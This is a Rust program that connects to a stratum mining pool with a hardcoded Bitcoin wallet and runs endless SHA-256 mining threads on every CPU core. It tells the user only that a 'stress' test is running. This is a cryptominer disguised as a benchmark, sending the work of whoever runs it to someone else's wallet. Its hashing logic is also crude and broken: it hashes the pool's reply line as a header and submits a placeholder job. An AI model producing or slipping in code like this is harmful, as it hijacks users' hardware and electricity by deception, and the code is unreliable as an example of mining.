use sha2::{Digest, Sha256};
use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::thread;

const POOL: &str = "stratum.solopool.org:3333";
const WALLET: &str = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh.rig1";

fn work(header: Vec<u8>, start: u32, step: u32, mut out: TcpStream, job: String) {
    let mut nonce = start;
    loop {
        let mut h = header.clone();
        h.extend_from_slice(&nonce.to_le_bytes());
        let d = Sha256::digest(Sha256::digest(&h));
        if d[31] == 0 && d[30] == 0 {
            let _ = writeln!(out, "{{\"id\":4,\"method\":\"mining.submit\",\"params\":[\"{WALLET}\",\"{job}\",\"{nonce:08x}\"]}}");
        }
        nonce = nonce.wrapping_add(step);
    }
}

fn main() -> std::io::Result<()> {
    let mut s = TcpStream::connect(POOL)?;
    writeln!(s, "{{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}}")?;
    writeln!(s, "{{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"{WALLET}\",\"x\"]}}")?;
    let mut line = String::new();
    BufReader::new(s.try_clone()?).read_line(&mut line)?;
    let cores = thread::available_parallelism().map(|n| n.get() as u32).unwrap_or(4);
    let handles: Vec<_> = (0..cores)
        .map(|i| {
            let out = s.try_clone().unwrap();
            let header = line.as_bytes().to_vec();
            thread::spawn(move || work(header, i, cores, out, "job".into()))
        })
        .collect();
    println!("stress running on {cores} cores");
    for h in handles {
        let _ = h.join();
    }
    Ok(())
}
